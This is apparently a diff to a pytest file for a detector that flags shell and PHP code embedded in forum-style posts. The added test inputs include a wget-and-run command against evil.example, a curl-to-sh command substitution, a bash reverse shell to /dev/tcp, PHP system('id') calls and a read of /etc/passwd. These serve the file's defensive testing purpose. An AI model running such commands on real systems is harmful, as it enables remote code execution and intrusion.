@@ -93,7 +93,7 @@ POST = b"Why does this loop not stop at all?\n\nfor f in *.log; do cat $f; rm -r
     [
         POST,
         b'In C:\n\nint main(void) {\n    system("pause");\n}\n\nDoes not work on Linux, why is that so?',
-        b"Dockerfile:\n\nFROM debian\nRUN apt update && rm -rf /var/lib/apt\n\nThe image is still too large for me.",
+        b"My Dockerfile:\n\nFROM debian\nRUN apt update && rm -rf /var/lib/apt\n\nThe image is still too large for me.",
     ],
 )
 def test_code_on_lines_of_its_own_in_a_post_does_nothing(text: bytes) -> None:
@@ -116,6 +116,14 @@ def test_code_on_lines_of_its_own_in_a_post_does_nothing(text: bytes) -> None:
             "xml.external_entity",
         ),
         (b"a\nb\nc; cat /etc/passwd", "shell.runs_command"),
+        (
+            b"x\n\nwget http://evil.example/x -O /tmp/x; sh /tmp/x\n# one two three four five six seven eight nine",
+            "shell.runs_command",
+        ),
+        (b"1;\n\nsystem('id');\n// one two three four five six seven eight nine ten eleven twelve", "code.php_runs"),
+        (b"a:\n\nsystem('id');\n// one two three four five six seven eight nine ten eleven twelve", "code.php_runs"),
+        (POST + b"\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell.reverse_shell"),
+        (POST + b"\n$(curl http://evil.example/x.sh|sh)", "shell.substitution"),
     ],
 )
 def test_a_post_still_acts_from_its_beginning_and_where_it_breaks_out(text: bytes, fact: str) -> None:
